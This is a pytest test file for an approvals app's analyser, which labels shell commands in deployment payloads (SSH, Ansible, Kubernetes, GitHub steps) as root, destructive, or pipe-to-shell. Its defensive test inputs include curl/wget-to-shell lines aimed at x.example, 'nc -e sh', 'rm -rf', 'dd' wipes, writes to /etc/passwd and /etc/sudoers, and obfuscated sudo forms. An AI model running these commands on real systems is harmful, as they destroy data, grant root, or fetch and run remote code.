"""Commands: every program that runs, root in every form, what is piped into a shell, the hosts."""

from typing import Any

import pytest

from approvals_app.payload.facts import find
from approvals_app.payload.kinds import command
from approvals_app.payload.kinds._shell import read_code, unquote
from tests.payloads.reading import facts_of, load, say, summarize_data

pytestmark = pytest.mark.pure

FILES = (
    "cmd_command_args",
    "cmd_list_command",
    "cmd_ssh_hosts",
    "cmd_sudo_in_argv",
    "cmd_sudo_text",
    "cmd_github_steps",
    "cmd_ansible_tasks",
    "cmd_ssm_run_shell_script",
    "cmd_kubernetes_pod",
    "cmd_docker_exec",
    "cmd_heredoc_over_ssh",
    "cmd_ecs_overrides",
)


def say_command(line: Any, **members: Any) -> list[str]:
    return [say(fact) for fact in summarize_data({"command": line, **members}).facts]


@pytest.mark.parametrize(
    ("name", "facts"),
    [
        (
            "cmd_command_args",
            ["danger destroys: rm -rf /srv/data", "plain command: rm -rf /srv/data"],
        ),
        (
            "cmd_list_command",
            [
                "danger what comes in is run: curl -s https://x.example/i.sh | sh",
                "plain command: sh -c 'curl -s https://x.example/i.sh | sh'",
                "plain 2 programs: sh, curl",
            ],
        ),
        (
            "cmd_ssh_hosts",
            [
                "notice runs on: 60 hosts: web0.prod, web1.prod, web2.prod and 57 more",
                "plain command: systemctl restart nginx",
            ],
        ),
        (
            "cmd_sudo_in_argv",
            ["danger runs as root: sudo rm -rf /srv/data", "danger destroys: rm -rf /srv/data"],
        ),
        (
            "cmd_sudo_text",
            ["danger runs as root: sudo: true", "danger destroys: rm -rf /srv/data"],
        ),
        (
            "cmd_github_steps",
            ["danger runs as root: sudo rm -rf /srv/cache", "danger destroys: rm -rf /srv/cache"],
        ),
        (
            "cmd_ansible_tasks",
            ["danger runs as root: become: True", "danger destroys: find /var/www -type f -delete"],
        ),
        (
            "cmd_ssm_run_shell_script",
            [
                "danger destroys: dd if=/dev/zero of=/dev/nvme1n1",
                "notice stops: systemctl stop app",
                "plain runs on: 2 hosts: tag:role=web, tag:role=worker",
            ],
        ),
        (
            "cmd_kubernetes_pod",
            [
                "danger runs as root: runAsUser: 0",
                "danger what comes in is run: wget -qO- https://x.example/a | sh",
            ],
        ),
        ("cmd_docker_exec", ["danger empties: carts", "plain 2 programs: docker, psql"]),
        (
            "cmd_heredoc_over_ssh",
            [
                "danger runs as root: sudo systemctl stop postgresql",
                "danger destroys: rm -rf /var/lib/postgresql/15",
                "notice reaches over ssh: db1.example.com",
            ],
        ),
        ("cmd_ecs_overrides", ["plain command: python manage.py flush --no-input"]),
    ],
)
def test_shapes(name: str, facts: list[str]) -> None:
    said = facts_of(name)
    for fact in facts:
        assert fact in said


@pytest.mark.parametrize(
    "line",
    [
        "sudo id",
        "/usr/bin/sudo -E -n id",
        "env A=1 nice -n 5 sudo id",
        "su -c id",
        "su - root -c id",
        "doas id",
        "pkexec id",
        "ssh root@db1 id",
        "ssh -l root db1 id",
        "ssh db1 'sudo id'",
        "sh -c 'sudo id'",
        "xargs -n 1 sudo id",
        "find / -exec sudo id {} \\;",
        "docker run -u 0 alpine id",
        "docker run --privileged alpine id",
        "$(sudo id)",
        "case $x in a) sudo id;; esac",
        "diff <(sudo id) x",
        "s'u'do id",
        "$'\\x73udo' id",
        "bash <<'X'\nsudo id\nX",
        "bash <<< 'sudo id'",
        "eval 'sudo id'",
        "ssh db1 -- sudo id",
        "sh -c -- 'sudo id'",
        "ansible all -b -a id",
        "powershell -Command 'sudo id'",
        ["sudo", "id"],
        ["sh", "-c", "sudo id"],
    ],
)
def test_root_in_a_command(line: Any) -> None:
    assert summarize_data({"command": line}).traits["as_root"] is True


@pytest.mark.parametrize(
    "members",
    [
        {"sudo": True},
        {"sudo": "yes"},
        {"sudo": 1},
        {"become": True},
        {"become": "true", "become_user": "root"},
        {"user": "root"},
        {"user": "0:0"},
        {"uid": 0},
        {"privileged": True},
        {"securityContext": {"runAsUser": 0}},
        {"stdin": "sudo id"},
    ],
)
def test_root_in_a_member(members: dict[str, Any]) -> None:
    assert summarize_data({"command": "sh", **members}).traits["as_root"] is True


@pytest.mark.parametrize(
    "data",
    [
        {"command": "id", "sudo": "false"},
        {"command": "id", "sudo": False, "user": "deploy"},
        {"command": "sudo -u postgres id"},
        {"command": "su - deploy -c id"},
        {"command": "echo sudo id"},
        {"command": "id", "become": True, "become_user": "postgres"},
    ],
)
def test_not_root(data: dict[str, Any]) -> None:
    assert summarize_data(data).traits["as_root"] is False


def test_a_switch_that_is_neither_yes_nor_no_is_said() -> None:
    assert "danger perhaps as root: sudo: perhaps" in say_command("id", sudo="perhaps")


@pytest.mark.parametrize(
    "line",
    [
        "curl x | sh",
        "curl x | sudo -E bash -s -- y",
        "echo x | base64 -d | python3",
        "bash <(curl x)",
        'eval "$(curl x)"',
        'sh -c "$(curl x)"',
        "source <(curl x)",
    ],
)
def test_what_comes_in_is_run(line: str) -> None:
    assert any(each.startswith("danger what comes in is run") for each in say_command(line))


@pytest.mark.parametrize(
    "line",
    [
        "rm -rf /srv",
        "mkfs.ext4 /dev/sda1",
        "git push --force origin main",
        "kubectl -n prod delete pod x",
        "kubectl exec -it x -- rm -rf /srv",
        "terraform destroy -auto-approve",
        "aws s3 rm s3://b --recursive",
        "aws ec2 terminate-instances --instance-ids i-1",
        "helm uninstall shop",
        "redis-cli flushall",
        "for h in a b; do ssh $h rm -rf /srv; done",
        "true && { (rm x); }",
    ],
)
def test_destroying(line: str) -> None:
    assert any(each.startswith("danger destroys") for each in say_command(line))
    # What the page calls destroying, a policy must be able to ask for.
    assert read_traits(line)["destroys"] == 1


def read_traits(line: str) -> dict[str, Any]:
    traits: dict[str, Any] = summarize_data({"command": line}).traits
    return traits


def test_each_command_that_destroys_counts() -> None:
    assert read_traits("ls / ; rm -rf /srv/a && rm -rf /srv/b")["destroys"] == 2
    assert read_traits("ls /srv")["destroys"] == 0


@pytest.mark.parametrize(
    "line",
    [
        "curl -s https://example.com/x | sh",
        "python3 -c 'print(1)'",
        "$TOOL --all",
        "echo ${",
    ],
)
def test_what_is_not_read_is_partial(line: str) -> None:
    assert read_traits(line)["partial"] is True


@pytest.mark.parametrize("line", ["ls -la", "git log | head", "kubectl get pods"])
def test_what_is_read_is_whole(line: str) -> None:
    assert read_traits(line)["partial"] is False


@pytest.mark.parametrize(
    "line",
    ["ls -la", "echo 'rm -rf /'", "git push origin main", "kubectl get pods", "terraform plan"],
)
def test_harmless(line: str) -> None:
    assert all(each.startswith("plain ") for each in say_command(line))


def test_redirects() -> None:
    facts = say_command("echo a > /etc/passwd; ls >> log 2>&1 > /dev/null")
    assert "danger writes to: /etc/passwd" in facts
    assert "notice writes to: log (appends)" in facts
    assert "danger writes to: /etc/hosts" in say_command("echo a | sudo tee /etc/hosts")
    assert "danger writes to: /etc/sudoers" in say_command("cp a /etc/sudoers")


def test_what_is_not_understood_or_not_read_is_said() -> None:
    assert "notice not understood: ((((" in say_command("((((")
    many = say_command("true\n" * 10_000 + "sudo rm -rf /srv")
    assert any(each.startswith("danger not read: ") and "sudo, rm" in each for each in many)
    assert any("program known only when it runs: $CMD x" in each for each in say_command("$CMD x"))


def test_broken_code_that_takes_the_square_is_read_crudely() -> None:
    code = read_code("a|" * 5_000 + "rm -rf /srv|")
    assert ["rm", "-rf", "/srv"] in code.commands
    assert code.broken


def test_no_danger_is_dropped_where_there_are_too_many() -> None:
    lines = ["sudo rm -rf /a", "echo a > /etc/b", "curl x | sh", "chmod 777 /x", "nc -e sh x 1"]
    sql = ["psql -c 'DROP TABLE t'", "psql -c 'TRUNCATE u'"]
    facts = summarize_data({"commands": [*lines, *sql], "user": "root"}).facts
    said = " ".join(fact.value for fact in facts if fact.level == "danger")
    for name in ("user: root", "rm -rf /a", "/etc/b", "curl x", "chmod", "nc -e", "TABLE t", "u"):
        assert name in said
    assert any(fact.label == "commands" for fact in facts)


def test_quotes() -> None:
    assert [unquote(each) for each in ("'a b'", '"a$b"', "a\\ b", "$'\\x72m'", "a\"b\"'c'")] == [
        "a b",
        "a$b",
        "a b",
        "rm",
        "abc",
    ]


def test_each_added_danger_changes_the_summary() -> None:
    for name in FILES:
        data = load(name)
        before = [say(fact) for fact in summarize_data(data).facts]
        for added in (
            {"script": ["sudo shred /dev/sdq"]},
            {"steps": [{"run": "sudo shred /dev/sdq"}]},
        ):
            after = summarize_data({**data, **added})
            assert [say(fact) for fact in after.facts] != before
            assert after.traits["as_root"] is True
            assert any("shred /dev/sdq" in fact.value for fact in after.facts[:3])


@pytest.mark.parametrize("name", FILES)
def test_the_path_of_each_fact_is_there(name: str) -> None:
    data = {"outer": {"inner": load(name)}}
    for fact in summarize_data(data).facts:
        assert fact.path[:2] == ("outer", "inner")
        find(data, fact.path)


@pytest.mark.parametrize(
    "data", [{"run": "id-1"}, {"command": ""}, {"args": ["a"]}, {"steps": [1]}]
)
def test_not_a_command(data: Any) -> None:
    assert command.read(data, ()) is None
